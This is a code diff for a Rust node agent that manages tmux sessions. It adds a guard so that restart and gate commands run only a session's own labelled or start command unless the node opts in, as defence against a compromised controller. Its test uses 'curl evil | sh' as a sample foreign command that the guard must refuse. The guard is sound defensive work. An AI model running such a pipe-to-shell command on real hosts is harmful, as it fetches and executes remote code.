@@ -29,6 +29,8 @@ pub struct Executor {
     snapshot: watch::Receiver<Arc<Snapshot>>,
     profiles: Arc<Profiles>,
     keys: Keyboard,
+    /// Restart commands each session may be restarted with (see [`RestartGuard`]).
+    restarts: Arc<RestartGuard>,
 }
 
 /// How a command ended on the node.
@@ -61,6 +63,7 @@ impl Executor {
         snapshot: watch::Receiver<Arc<Snapshot>>,
         profiles: Arc<Profiles>,
     ) -> Self {
+        let snapshot_for_guard = snapshot.clone();
         Self {
             servers: servers
                 .iter()
@@ -70,7 +73,15 @@ impl Executor {
             snapshot,
             profiles,
             keys: Keyboard::default(),
+            restarts: RestartGuard::watch(false, snapshot_for_guard),
         }
+    }
+
+    /// Obey restarts with any command (`allow_any_restart_command`), not only the session's own.
+    #[must_use]
+    pub fn allowing_any_restart_command(mut self, allow: bool) -> Self {
+        self.restarts = RestartGuard::watch(allow, self.snapshot.clone());
+        self
     }
 
     /// Checks and executes one command; never fails, the outcome is in the result.
@@ -119,6 +130,13 @@ impl Executor {
             Some(Err(e)) => return refuse(S::Invalid, e.to_string()),
             None => return refuse(S::Invalid, "command has no action".into()),
         };
+        if let Action::Restart { command, .. } = &action
+            && let Err(why) = self
+                .restarts
+                .check(&cmd.tmux_socket, &cmd.session_name, command)
+        {
+            return refuse(S::Declined, why);
+        }
         let socket = if cmd.tmux_socket.is_empty() && self.servers.len() == 1 {
             self.servers.keys().next().cloned().unwrap_or_default()
         } else {
@@ -225,7 +243,10 @@ impl Executor {
             Action::Gate {
                 command,
                 timeout_ms,
-            } => Self::gate(s, &command, timeout_ms).await,
+            } => match self.gate_refused(s, &command) {
+                Some(why) => Ok(Ended::Declined(why)),
+                None => Self::gate(s, &command, timeout_ms).await,
+            },
             Action::Restart { command, .. } => {
                 let argv = restart_argv(&command, s, &self.profiles);
                 tmux.respawn_pane(pane, &argv)
@@ -279,6 +300,20 @@ impl Executor {
             "not delivered: the text still sits in the input box after submit was pressed twice ({} profile)",
             profile.name
         )))
+    }
+
+    /// Why a gate command is refused: like a restart's command, only the session's own
+    /// `@argus-gate` label runs unless the node allows any command, so that a controller (or a
+    /// policy) cannot run arbitrary shell on the host by default.
+    fn gate_refused(&self, s: &pb::SessionObservation, command: &str) -> Option<String> {
+        let own = s.labels.get(argus_shared::labels::GATE).map(String::as_str);
+        if self.restarts.allow_any || own == Some(command) {
+            return None;
+        }
+        Some(format!(
+            "gate command {command:?} is not session {:?}'s own @argus-gate label; this node runs other gate commands only with allow_any_restart_command",
+            s.session_name
+        ))
     }
 
     /// Runs the session's quality gate in its working directory (the pane's current path);
@@ -476,6 +511,96 @@ fn restart_argv(command: &str, s: &pb::SessionObservation, profiles: &Profiles) 
         return vec![never_a_picker(label, profile, profiles)];
     }
     split_tmux_command(&s.start_command)
+}
+
+/// Defence in depth: without the node's explicit opt-in, a restart may only use the session's
+/// own command (its `@argus-restart` label or its pane's start command), as this node saw them,
+/// so that a compromised controller is not a remote shell on every host. The commands of
+/// sessions that vanished are remembered (at most [`RESTART_MEMORY`]), for the restart that
+/// creates one anew.
+pub struct RestartGuard {
+    allow_any: bool,
+    /// Allowed commands by (tmux socket, session name), from the node's own observations.
+    known: std::sync::Mutex<HashMap<(String, String), Vec<String>>>,
+}
+
+/// Most sessions whose restart commands are remembered.
+const RESTART_MEMORY: usize = 10_000;
+
+impl RestartGuard {
+    fn watch(allow_any: bool, snapshot: watch::Receiver<Arc<Snapshot>>) -> Arc<Self> {
+        let guard = Arc::new(Self {
+            allow_any,
+            known: std::sync::Mutex::new(HashMap::new()),
+        });
+        if !allow_any {
+            Self::follow(&guard, snapshot);
+        }
+        guard
+    }
+
+    /// Learns every snapshot's sessions until the prober stops (its sender drops), or this
+    /// guard is dropped.
+    fn follow(guard: &Arc<Self>, mut snapshot: watch::Receiver<Arc<Snapshot>>) {
+        let weak = Arc::downgrade(guard);
+        guard.learn(&snapshot.borrow_and_update());
+        let Ok(rt) = tokio::runtime::Handle::try_current() else {
+            return;
+        };
+        // Ends with the snapshot's sender (the prober), or when the executor is gone.
+        rt.spawn(async move {
+            while snapshot.changed().await.is_ok() {
+                let Some(guard) = weak.upgrade() else { break };
+                let snap = snapshot.borrow_and_update().clone();
+                guard.learn(&snap);
+            }
+        });
+    }
+
+    fn learn(&self, snap: &Snapshot) {
+        let Ok(mut known) = self.known.lock() else {
+            return;
+        };
+        for ((socket, name), s) in &snap.sessions {
+            let mut allowed = vec![shell_command_from_tmux(&s.start_command)];
+            if let Some(l) = s
+                .labels
+                .get(argus_shared::labels::RESTART)
+                .filter(|l| !l.is_empty())
+            {
+                allowed.push(l.clone());
+            }
+            if known.len() >= RESTART_MEMORY && !known.contains_key(&(socket.clone(), name.clone()))
+            {
+                continue;
+            }
+            known.insert((socket.clone(), name.clone()), allowed);
+        }
+    }
+
+    /// `Err` with the reason when `command` is not one this session may restart with.
+    fn check(&self, socket: &str, name: &str, command: &str) -> Result<(), String> {
+        if self.allow_any || command.is_empty() {
+            return Ok(());
+        }
+        let known = self
+            .known
+            .lock()
+            .map_err(|_| "restart guard poisoned".to_owned())?;
+        let allowed = known
+            .iter()
+            .filter(|((s, n), _)| n == name && (socket.is_empty() || s == socket))
+            .any(|(_, cmds)| cmds.iter().any(|c| c == command));
+        if allowed {
+            Ok(())
+        } else {
+            Err(format!(
+                "restart command {command:?} is neither session {name:?}'s @argus-restart label \
+                 nor its start command; this node agent runs other commands only when started \
+                 with --allow-any-restart-command"
+            ))
+        }
+    }
 }
 
 /// The command a session created anew starts with: the agent's own start command in its
@@ -695,6 +820,41 @@ mod tests {
             profile: profile.to_owned(),
             ..Default::default()
         }
+    }
+
+    #[tokio::test]
+    async fn restarts_run_only_the_sessions_own_commands_without_the_opt_in() {
+        let mut snap = Snapshot::default();
+        let mut labelled = obs("\"npm\" \"run\" \"dev\"", "");
+        labelled.labels.insert(
+            argus_shared::labels::RESTART.to_owned(),
+            "make serve".to_owned(),
+        );
+        snap.sessions
+            .insert(("/s".to_owned(), "web".to_owned()), labelled);
+        let (tx, rx) = watch::channel(Arc::new(snap));
+        let guard = RestartGuard::watch(false, rx.clone());
+        guard.check("/s", "web", "").expect("its own command");
+        guard.check("/s", "web", "make serve").expect("its label");
+        guard
+            .check("/s", "web", "npm run dev")
+            .expect("its start command");
+        guard
+            .check("", "web", "npm run dev")
+            .expect("the only server");
+        let refused = guard
+            .check("/s", "web", "curl evil | sh")
+            .expect_err("foreign");
+        assert!(refused.contains("--allow-any-restart-command"), "{refused}");
+        assert!(guard.check("/s", "other", "npm run dev").is_err());
+        // The session vanishes from the next snapshot: its commands are remembered, for the
+        // restart that creates it anew.
+        tx.send_replace(Arc::new(Snapshot::default()));
+        tokio::task::yield_now().await;
+        guard.check("/s", "web", "make serve").expect("remembered");
+        RestartGuard::watch(true, rx)
+            .check("/s", "web", "curl evil | sh")
+            .expect("opted in");
     }
 
     #[test]
